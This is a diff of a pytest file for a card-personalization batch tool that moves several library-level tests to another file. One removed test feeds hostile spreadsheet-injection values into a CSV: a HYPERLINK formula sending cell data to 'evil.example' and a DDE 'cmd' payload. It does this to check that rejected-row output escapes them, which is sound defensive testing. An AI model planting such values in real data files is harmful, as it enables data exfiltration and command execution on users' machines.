@@ -1,4 +1,6 @@
-"""cardtool perso as a batch tool: every row accounted for, in input order, on every core, resumable, reported."""
+"""cardtool perso as a batch tool: every row accounted for, in input order, on every core, resumable, reported.
+
+The library-level cases (the batch called directly) are in test_batch_perso.py."""
 
 from __future__ import annotations
 
@@ -9,7 +11,7 @@ from pathlib import Path
 
 import pytest
 from cardtool.main import main
-from cardtool.perso_command import MANIFEST, PAGE, REJECTED, SignerSource, personalize_batch
+from cardtool.perso_command import MANIFEST, PAGE, REJECTED
 from PIL import Image
 
 from cardlib.card.image import CardImage
@@ -61,47 +63,12 @@ def test_parallel_perso_writes_every_row_in_input_order(pki: Path, tmp_path: Pat
     assert "16 personalized, 2 rejected, 0 already done" in capsys.readouterr().out
 
 
-def test_one_worker_and_two_personalize_the_same_rows(pki: Path, tmp_path: Path) -> None:
-    source = _input(tmp_path, copies=1)
-    one = personalize_batch(source, SignerSource(pki), tmp_path / "one", workers=1)
-    two = personalize_batch(source, SignerSource(pki), tmp_path / "two", workers=2)
-    assert (one.personalized, one.rejected) == (two.personalized, two.rejected) == (8, 2)
-    assert _manifest(tmp_path / "one") == _manifest(tmp_path / "two")
-
-
-def test_a_torn_manifest_line_is_redone_once(pki: Path, tmp_path: Path) -> None:
-    source = _input(tmp_path, copies=1)
-    out = tmp_path / "out"
-    personalize_batch(source, SignerSource(pki), out, workers=2)
-    lines = (out / MANIFEST).read_text(encoding="utf-8").splitlines(keepends=True)
-    (out / MANIFEST).write_text("".join(lines[:6]) + lines[6][:25], encoding="utf-8")
-    summary = personalize_batch(source, SignerSource(pki), out, workers=2)
-    assert (summary.already_done, summary.personalized + summary.rejected) == (6, 4)
-    assert sorted(int(str(entry["row"])) for entry in _manifest(out)) == list(range(2, 12))
-
-
 def test_a_broken_pki_folder_stops_before_any_row(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     source = _input(tmp_path, copies=1)
     status = main(["perso", str(source), "--pki", str(tmp_path / "no-pki"), "--out", str(tmp_path / "out")])
     assert status == 2
     assert capsys.readouterr().err.startswith("cardtool perso: ")
     assert not (tmp_path / "out").exists()
-
-
-def test_rejected_csv_neutralises_spreadsheet_formulas(pki: Path, tmp_path: Path) -> None:
-    shutil.copytree(SAMPLES / "portraits", tmp_path / "portraits")
-    shutil.copytree(SAMPLES / "fingers", tmp_path / "fingers")
-    rows = list(csv.DictReader((SAMPLES / "residents.csv").open(encoding="utf-8")))
-    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
-    with (tmp_path / "in.csv").open("w", encoding="utf-8", newline="") as handle:
-        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
-        writer.writeheader()
-        writer.writerows(dict(rows[0], id_number=value) for value in hostile)
-    personalize_batch(tmp_path / "in.csv", SignerSource(pki), tmp_path / "out")
-    rejected = list(csv.DictReader((tmp_path / "out" / REJECTED).open(encoding="utf-8")))
-    assert [row["id_number"] for row in rejected] == ["'" + value for value in hostile]
-    cells = [cell for row in rejected for cell in row.values()]
-    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
 
 
 # -- batches that notice changes (issue 16)
